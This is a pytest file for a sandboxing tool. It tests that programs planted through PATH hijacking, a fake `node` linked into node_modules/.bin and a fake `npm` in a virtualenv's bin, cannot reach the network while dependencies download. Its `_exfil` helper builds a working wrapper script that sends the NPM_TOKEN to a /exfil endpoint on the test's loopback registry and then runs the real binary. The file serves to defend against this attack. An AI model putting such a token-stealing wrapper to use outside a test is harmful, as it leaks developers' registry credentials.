"""A step with the network runs no program a sandbox could have written (red team, issue 11/12
round): npm's own `#!/usr/bin/env node` found a `node` a package linked into node_modules/.bin
(direnv's `layout node` puts it on PATH), and an `npm` a wheel put in the active venv's bin ran
as the real npm. Both ran in the download phase, which has the registry token and the network.

Each plant is made for real (by npm itself, by a venv script); the listener is the test's own
loopback registry, the one place the download phase may reach: it must never see /exfil. The
control runs the planted program directly and shows it does reach the registry.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from support import packages as pkg
from support.registries import NpmRegistry
from support.sboxcli import run_sbox
from support.trust import trust

pytestmark = pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
TOKEN = "SBOX-NPM-CANARY-TOKEN"


def _exfil(port: int, then: str) -> str:
    """A program that sends the registry token to /exfil on the test's registry, then `then`."""
    return (f'#!/bin/sh\n'
            f'python3 -c "import socket,sys; s=socket.create_connection((\'127.0.0.1\', {port}), 3); '
            f's.sendall((\'GET /exfil?\' + sys.argv[1] + \' HTTP/1.0\\r\\n\\r\\n\').encode()); s.recv(9)" '
            f'"${{NPM_TOKEN:-none}}" 2>/dev/null\n'
            f'exec {then} "$@"\n')


def _project(tmp_path: Path, backend: str, reg: NpmRegistry, deps: dict[str, str]) -> tuple[Path, dict[str, str]]:
    project = tmp_path / "project"
    project.mkdir()
    (project / "sbox.yaml").write_text(f"version: 1\nbackend: {backend}\n")
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "dependencies": deps}))
    trust(project / "sbox.yaml")
    env = dict(os.environ, npm_config_registry=f"{reg.url}/", npm_config_update_notifier="false",
               npm_config_audit="false", NPM_TOKEN=TOKEN)
    return project, env


def _exfiltrated(reg: NpmRegistry) -> list[str]:
    return [r for r in reg.requests if "exfil" in r]


def test_a_node_linked_into_node_modules_bin_never_runs_in_the_download_phase(
        tmp_path: Path, backend: str, sbox_bin: str) -> None:
    node = shutil.which("node")
    assert node
    with NpmRegistry([]) as reg:
        reg.add(pkg._targz({"package/package.json": json.dumps({"name": "handy", "version": "1.0.0",
                                                                 "bin": {"node": "cli.sh"}}),
                             "package/cli.sh": _exfil(reg.port, node)}))
        reg.add(pkg.npm_package("later", "1.0.0", {"index.js": ""}))
        project, env = _project(tmp_path, backend, reg, {"handy": "1.0.0"})
        env["PATH"] = f"{project / 'node_modules' / '.bin'}{os.pathsep}{env['PATH']}"  # direnv's layout node
        first = run_sbox(sbox_bin, ["run", "--", "npm", "install"], project, env=env)
        assert first.returncode == 0, first.stderr[-3000:]
        planted = project / "node_modules" / ".bin" / "node"
        assert planted.is_symlink()  # npm linked it, with scripts disabled
        assert not _exfiltrated(reg)

        second = run_sbox(sbox_bin, ["run", "--", "npm", "install", "later"], project, env=env)
        assert second.returncode == 0, second.stderr[-3000:]
        assert (project / "node_modules" / "later").is_dir()
        assert not _exfiltrated(reg), second.stderr[-2000:]

        control = subprocess.run([str(planted), "-e", "0"], env=env, capture_output=True, timeout=60)
        assert control.returncode == 0 and _exfiltrated(reg) == [f"/exfil?{TOKEN}"]  # the plant works


def test_an_npm_in_the_active_venv_never_runs_with_the_network(tmp_path: Path, backend: str,
                                                               sbox_bin: str) -> None:
    npm = shutil.which("npm")
    assert npm
    with NpmRegistry([pkg.npm_package("later", "1.0.0", {"index.js": ""})]) as reg:
        project, env = _project(tmp_path, backend, reg, {"later": "1.0.0"})
        venv = tmp_path / "venv"  # outside the project: a wheel's console script named `npm`
        (venv / "bin").mkdir(parents=True)
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
        planted = venv / "bin" / "npm"
        planted.write_text(_exfil(reg.port, npm))
        planted.chmod(0o755)
        env.update(VIRTUAL_ENV=str(venv), PATH=f"{venv / 'bin'}{os.pathsep}{env['PATH']}")
        result = run_sbox(sbox_bin, ["run", "--", "npm", "install"], project, env=env)
        assert result.returncode == 0, result.stderr[-3000:]
        assert (project / "node_modules" / "later").is_dir()
        assert not _exfiltrated(reg), result.stderr[-2000:]

        control = subprocess.run([str(planted), "--version"], env=env, capture_output=True, timeout=60)
        assert control.returncode == 0 and _exfiltrated(reg) == [f"/exfil?{TOKEN}"]


def test_mode_host_refuses_an_npm_from_a_venv(tmp_path: Path, sbox_bin: str) -> None:
    """`mode: host` for `npm publish`: the `npm` a wheel put in the venv's bin would run unsandboxed
    with the token. sbox refuses in one line; nothing runs."""
    with NpmRegistry([]) as reg:
        project, env = _project(tmp_path, "bwrap", reg, {})
        (project / "sbox.yaml").write_text("version: 1\nprofiles:\n  publish:\n    mode: host\n"
                                           "dispatch:\n  publish:\n    match: ['npm publish*']\n    profile: publish\n")
        trust(project / "sbox.yaml")
        venv = tmp_path / "venv"
        (venv / "bin").mkdir(parents=True)
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
        planted = venv / "bin" / "npm"
        planted.write_text(_exfil(reg.port, shutil.which("npm") or "npm"))
        planted.chmod(0o755)
        env.update(VIRTUAL_ENV=str(venv), PATH=f"{venv / 'bin'}{os.pathsep}{env['PATH']}")
        result = run_sbox(sbox_bin, ["run", "--", "npm", "publish", "--dry-run"], project, env=env)
        assert result.returncode == 2, result.stderr[-2000:]
        assert f"mode: host would run {planted}" in result.stderr and len(result.stderr.strip().splitlines()) == 1
        assert not _exfiltrated(reg)
